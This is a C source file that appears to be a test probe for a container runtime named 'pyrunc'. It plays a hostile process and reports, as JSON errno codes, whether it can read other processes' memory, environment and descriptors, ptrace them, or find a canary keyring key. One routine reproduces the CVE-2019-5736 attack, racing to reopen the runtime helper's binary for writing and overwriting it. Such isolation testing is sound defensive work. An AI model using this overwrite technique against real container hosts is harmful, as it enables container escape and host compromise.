/* SPDX-License-Identifier: Apache-2.0 */
/* What a hostile process in a container tries, one JSON object: attack WORD... The answer of a try is its errno, 0 is success.
 *
 *   inspect:PID  every door into another process: its descriptors, program, environment, memory, root, ptrace, pidfd
 *   entries:PID  what an inspector who gets in finds: [links of its descriptors, link of its program, its environment]
 *   overwrite    CVE-2019-5736: catch a helper of the runtime, open its program, and when it has ended again for writing
 *   sharedkey    the caller's key "pyrunc-canary", by the session keyring
 *   reach:PATH   what is at PATH, seen from the working directory: 0 or errno
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <time.h>
#include <unistd.h>

static int result(long value)
{
	return value < 0 ? errno : 0;
}

static int readable(const char *path)
{
	char byte;
	int fd = open(path, O_RDONLY | O_NONBLOCK);
	return fd < 0 ? errno : read(fd, &byte, 1) < 0 ? errno : 0;
}

static void inspect(const char *pid)
{
	static const char *links[] = {"exe", "root", "cwd", "ns/mnt"};
	static const char *files[] = {"environ", "maps", "auxv", "mem"};
	char path[128], target[256];
	printf("{");
	for (unsigned i = 0; i < sizeof(links) / sizeof(*links); i++) {
		snprintf(path, sizeof(path), "/proc/%s/%s", pid, links[i]);
		printf("\"%s\":%d,", links[i], result(readlink(path, target, sizeof(target))));
	}
	int told = EACCES;
	for (int fd = 0; fd < 32; fd++) {
		snprintf(path, sizeof(path), "/proc/%s/fd/%d", pid, fd);
		told = readlink(path, target, sizeof(target)) >= 0 ? 0 : told;
	}
	printf("\"fd\":%d,", told);
	for (unsigned i = 0; i < sizeof(files) / sizeof(*files); i++) {
		snprintf(path, sizeof(path), "/proc/%s/%s", pid, files[i]);
		printf("\"%s\":%d,", files[i], readable(path));
	}
	snprintf(path, sizeof(path), "/proc/%s/mem", pid);
	printf("\"mem for writing\":%d,", result(open(path, O_RDWR)));
	struct iovec here = {path, 8}, there = {(void *)0x400000, 8};
	printf("\"process_vm_readv\":%d,", result(process_vm_readv(atoi(pid), &here, 1, &there, 1, 0)));
	int fd = (int)syscall(434, atoi(pid), 0);
	printf("\"pidfd_getfd\":%d,", result(syscall(438, fd, 0, 0)));
	printf("\"ptrace\":%d}", result(ptrace(PTRACE_SEIZE, atoi(pid), 0, 0)));
}

static void entries(const char *pid)
{
	char path[300], target[300];
	struct dirent *entry;
	snprintf(path, sizeof(path), "/proc/%s/fd", pid);
	DIR *folder = opendir(path);
	printf("[[");
	for (int first = 1; folder && (entry = readdir(folder));) {
		if (entry->d_name[0] == '.')
			continue;
		snprintf(path, sizeof(path), "/proc/%s/fd/%s", pid, entry->d_name);
		long size = readlink(path, target, sizeof(target) - 1);
		target[size < 0 ? 0 : size] = 0;
		struct stat facts = {0};
		stat(path, &facts);
		printf("%s\"%s %s%s\"", first ? "" : ",", entry->d_name, target, S_ISDIR(facts.st_mode) ? "/" : "");
		first = 0;
	}
	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	long size = readlink(path, target, sizeof(target) - 1);
	target[size < 0 ? 0 : size] = 0;
	printf("],\"%s\",", target);
	snprintf(path, sizeof(path), "/proc/%s/environ", pid);
	int fd = open(path, O_RDONLY);
	printf("%ld]", (long)read(fd, target, sizeof(target)));
}

/* The program of the first process that runs pyrunc-init in memory: a descriptor. */
static int catch_helper(void)
{
	char path[64], target[64];
	for (;;) {
		for (int pid = 2; pid < 2000; pid++) {
			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
			long size = readlink(path, target, sizeof(target) - 1);
			target[size < 0 ? 0 : size] = 0;
			if (!strstr(target, "pyrunc-init"))
				continue;
			int fd = open(path, O_RDONLY);
			/* It may have become another program in between. */
			if (fd >= 0 && snprintf(path, sizeof(path), "/proc/self/fd/%d", fd) &&
			    readlink(path, target, sizeof(target) - 1) > 0 && strstr(target, "pyrunc-init"))
				return fd;
			close(fd);
		}
	}
}

static int overwrite(void)
{
	char path[64];
	struct timespec pause = {0, 1000000};
	snprintf(path, sizeof(path), "/proc/self/fd/%d", catch_helper());
	for (;;) {
		int out = open(path, O_WRONLY);
		if (out >= 0)
			return write(out, "#!/pwned\n", 9) == 9 ? 0 : errno;
		if (errno != ETXTBSY)
			return errno;
		nanosleep(&pause, 0);
	}
}

int main(int argc, char **argv)
{
	putchar('{');
	for (int i = 1; i < argc; i++) {
		char *word = argv[i], *rest = strchr(word, ':');
		printf("%s\"%s\":", i > 1 ? "," : "", word);
		if (rest)
			*rest++ = 0;
		if (!strcmp(word, "inspect"))
			inspect(rest);
		else if (!strcmp(word, "entries"))
			entries(rest);
		else if (!strcmp(word, "overwrite"))
			printf("%d", overwrite());
		else if (!strcmp(word, "sharedkey"))
			/* KEYCTL_SEARCH in KEY_SPEC_SESSION_KEYRING */
			printf("%d", result(syscall(SYS_keyctl, 10, -3, "user", "pyrunc-canary", 0)));
		else if (!strcmp(word, "reach"))
			printf("%d", result(open(rest, O_PATH)));
		else
			return 2;
		fflush(stdout);
	}
	puts("}");
	return 0;
}
